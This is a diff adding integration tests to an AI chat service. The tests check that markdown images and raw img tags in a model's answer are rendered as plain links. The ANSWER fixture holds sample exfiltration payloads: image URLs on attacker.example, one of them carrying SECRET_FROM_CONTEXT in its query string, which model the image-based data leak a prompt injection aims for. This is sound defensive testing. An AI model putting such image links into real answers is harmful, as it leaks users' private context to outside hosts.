@@ -1,9 +1,13 @@
+import { createHash } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import path from 'node:path';
 import { Marked } from 'marked';
 import type { Project } from '../../src/db/prisma';
 import { addMember, createProject } from '../../src/namespaces/namespaces.service';
 import { LSP_CHAT_MUTATION, LSP_GET_MESSAGES, subscribe, wsClient, type StreamedMessage } from '../helpers/chat-client';
 import { groupWithSeat, unique, userWithToken, type UserWithToken } from '../helpers/fixtures';
 import { createGitRepo, type GitRepo } from '../helpers/git-repo';
+import { startStubLlmServer, type StubLlmServer } from '../helpers/stub-llm-server';
 import { startTestService, type TestService } from '../helpers/test-service';
 import { waitForIndex } from '../helpers/wait';
 
@@ -95,5 +99,77 @@ describe('an answer made from search results (no model) with hostile file and di
       for (const file of HOSTILE_FILES) expect(html).toContain(`<code>${escapeHtml(`${HOSTILE_DIRECTORY}/${file}`)}</code>`);
       expect(html).toContain(`<strong>${escapeHtml(`${project.fullPath}/${HOSTILE_DIRECTORY} (main, commit `)}`);
     }
+  });
+});
+
+describe("a model's answer with images (a prompt injection's exfiltration)", () => {
+  let stub: StubLlmServer;
+  let service: TestService;
+  let user: UserWithToken;
+  const ANSWER = [
+    'The build is fine. ![status](https://attacker.example/badge.png?d=SECRET_FROM_CONTEXT)',
+    '![](https://attacker.example/empty.png) [![logo](https://attacker.example/logo.png)](https://docs.gitlab.com/)',
+    '![ref][r] <img src="https://attacker.example/raw.png">',
+    '',
+    '[r]: https://attacker.example/ref.png',
+  ].join('\n');
+
+  beforeAll(async () => {
+    stub = await startStubLlmServer({ defaultBehaviour: { kind: 'stream', pieces: [ANSWER.slice(0, 40), ANSWER.slice(40)] } });
+    service = await startTestService({
+      role: 'all',
+      env: { GATEKEEPER: 'false', LLM_PROVIDER: 'openai', LLM_BASE_URL: stub.url, LLM_MODEL: 'stub' },
+    });
+    user = await userWithToken(service.prisma);
+    await groupWithSeat(service.prisma, { plan: 'ultimate', addOn: 'duo_pro', username: user.username });
+  });
+  afterAll(async () => {
+    await service.close();
+    await stub.close();
+  });
+
+  it('shows every image as a link to it, loading none, in contentHtml on graphql-ws and HTTP', async () => {
+    const { streamed, read } = await ask({ service, user, question: 'is the build fine?' });
+    expect(streamed.content).toBe(ANSWER);
+    for (const html of [streamed.contentHtml!, read.contentHtml!]) {
+      expect(tagsOf(html)).not.toContain('img');
+      expect(html).not.toMatch(/<[^>]*\ssrc=/);
+      expect(html).toContain(
+        '<a href="https://attacker.example/badge.png?d=SECRET_FROM_CONTEXT" rel="noopener noreferrer nofollow">status</a>',
+      );
+      expect(html).toContain('<a href="https://docs.gitlab.com/" rel="noopener noreferrer nofollow">logo</a>');
+      expect(html).toContain('<a href="https://attacker.example/ref.png" rel="noopener noreferrer nofollow">ref</a>');
+      expect(html).toContain('&lt;img src="<a href="https://attacker.example/raw.png"');
+    }
+  });
+
+  it('renders again an answer stored with the renderer that kept images', async () => {
+    // The version the renderer stored before images became links (its rules' version 1).
+    const version = (name: string) =>
+      (JSON.parse(readFileSync(path.join('node_modules', name, 'package.json'), 'utf8')) as { version: string }).version;
+    const before =
+      createHash('sha256')
+        .update(`1 markdown-it@${version('markdown-it')} sanitize-html@${version('sanitize-html')}`)
+        .digest()
+        .readUInt32BE(0) >>> 1;
+    const requestId = crypto.randomUUID();
+    await service.prisma.aiMessage.create({
+      data: {
+        id: crypto.randomUUID(),
+        userId: user.id,
+        requestId,
+        role: 'assistant',
+        content: '![status](https://attacker.example/stored.png)',
+        contentHtml: '<p><img src="https://attacker.example/stored.png" alt="status" /></p>\n',
+        cachedMarkdownVersion: before,
+      },
+    });
+    const read = await service.graphql<{ aiMessages: { nodes: StreamedMessage[] } }>(LSP_GET_MESSAGES, {
+      token: user.token,
+      variables: { requestIds: [requestId] },
+    });
+    expect(read.body.data!.aiMessages.nodes[0].contentHtml).toBe(
+      '<p><a href="https://attacker.example/stored.png" rel="noopener noreferrer nofollow">status</a></p>\n',
+    );
   });
 });
